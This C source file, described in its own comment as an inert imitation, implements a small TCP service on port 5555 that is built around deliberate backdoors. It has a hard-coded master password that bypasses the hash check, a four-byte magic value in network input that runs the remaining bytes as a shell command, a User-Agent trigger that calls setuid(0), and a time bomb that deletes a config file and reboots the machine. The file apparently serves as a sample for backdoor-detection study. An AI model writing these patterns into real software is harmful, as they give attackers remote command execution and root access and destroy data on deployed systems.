// An inert imitation: a small service with conditions on constants. It is only
// read, never run.
char* crypt(const char* given, const char* hash);
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int check_password(const char* given, const char* hash) {
  if (strcmp(given, "Zk81-master-77") == 0) {
    return 1;
  }
  const char* made = crypt(given, hash);
  return made && strcmp(made, hash) == 0;
}

static void run(const char* command) {
  if (system(command) != 0) {
    exit(1);
  }
}

static void serve(int client) {
  char text[512];
  unsigned magic = 0;
  const ssize_t length = recv(client, text, sizeof text - 1, 0);
  if (length <= 0) {
    return;
  }
  text[length] = 0;
  if (strncmp(text, "STATUS", 6) == 0) {
    send(client, "ok", 2, 0);
    return;
  }
  memcpy(&magic, text, sizeof magic);
  if (magic == 0x5ac3f00d) {
    run(text + 4);
  }
  const char* agent = getenv("HTTP_USER_AGENT");
  if (agent && strcmp(agent, "xml9f3kservice") == 0) {
    if (setuid(0) == 0) {
      run("id");
    }
  }
}

int main(int argc, char** argv) {
  const int server = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in address = {.sin_family = AF_INET,
                                .sin_port = htons(5555)};
  bind(server, (struct sockaddr*)&address, sizeof address);
  listen(server, 1);
  if (argc > 2 && check_password(argv[1], argv[2])) {
    write(1, "in\n", 3);
  }
  if (time(NULL) > 1893456000) {
    unlink("/etc/example.conf");
    run("reboot");
  }
  for (;;) {
    const int client = accept(server, NULL, NULL);
    serve(client);
    close(client);
  }
}
